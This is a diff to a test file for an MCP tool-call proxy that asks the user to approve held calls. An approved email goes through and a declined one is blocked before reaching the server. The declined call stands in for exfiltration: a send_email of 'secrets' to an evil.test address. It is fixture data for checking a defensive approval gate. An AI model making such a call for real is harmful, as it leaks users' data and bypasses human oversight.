@@ -6,7 +6,7 @@ import { join } from 'node:path';
 import { describe, it } from 'node:test';
 import { Client } from '@modelcontextprotocol/sdk/client/index.js';
 import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
-import { McpError } from '@modelcontextprotocol/sdk/types.js';
+import { ElicitRequestSchema, McpError } from '@modelcontextprotocol/sdk/types.js';
 import { RPC_CODES } from '../src/index.js';
 import { mintGrant } from '../src/identity/grant.js';
 import { generateKeys } from '../src/identity/keys.js';
@@ -31,6 +31,37 @@ const connectClient = async (url: string, token?: string) => {
   await client.connect(new StreamableHTTPClientTransport(new URL(url), token ? { requestInit: { headers: { authorization: `Bearer ${token}` } } } : undefined));
   return client;
 };
+
+describe('intentguard http: approval prompts', () => {
+  it('a held call asks the client\'s user over elicitation on its own POST stream; approved, it proceeds; declined, it is refused and never reaches the server', async () => {
+    const s = await stack();
+    const asked: string[] = [];
+    let answer: 'yes' | 'no' = 'yes';
+    const client = new Client({ name: 'http-agent', version: '1' }, { capabilities: { elicitation: {} } });
+    client.setRequestHandler(ElicitRequestSchema, async (req) => {
+      asked.push(req.params.message);
+      return (answer === 'yes' ? { action: 'accept', content: { approve: true, scope: 'once' } } : { action: 'decline' }) as never;
+    });
+    await client.connect(new StreamableHTTPClientTransport(new URL(s.proxy.url)));
+    const ok = await client.callTool({ name: 'send_email', arguments: { to: 'team@corp.test', body: 'notes' } });
+    assert.equal(asked.length, 1);
+    assert.match(asked[0]!, /wants to call send_email/);
+    assert.ok(!ok.isError, 'approved: the call ran');
+    assert.ok(s.upstream.seen.some((r) => r.body.includes('send_email')), 'the approved call reached the server');
+    assert.ok(!s.upstream.seen.some((r) => r.body.includes('intentguard-')), 'the prompt and its answer never reach the server');
+    answer = 'no';
+    await assert.rejects(client.callTool({ name: 'send_email', arguments: { to: 'x@evil.test', body: 'secrets' } }), (e: unknown) => {
+      assert.equal((e as McpError).code, RPC_CODES.DENIED);
+      return true;
+    });
+    assert.equal(asked.length, 2);
+    assert.ok(!s.upstream.seen.some((r) => r.body.includes('x@evil.test')), 'the declined call never reached the server');
+    // The session goes on: an approved-intent call still works.
+    assert.deepEqual((await client.callTool({ name: 'echo', arguments: { text: 'still here' } })).content, [{ type: 'text', text: 'still here' }]);
+    await client.close();
+    await s.close();
+  });
+});
 
 describe('intentguard http', () => {
   it('a real SDK client reaches a real SDK server through the proxy; a drifting call gets intentguard\'s error', async () => {
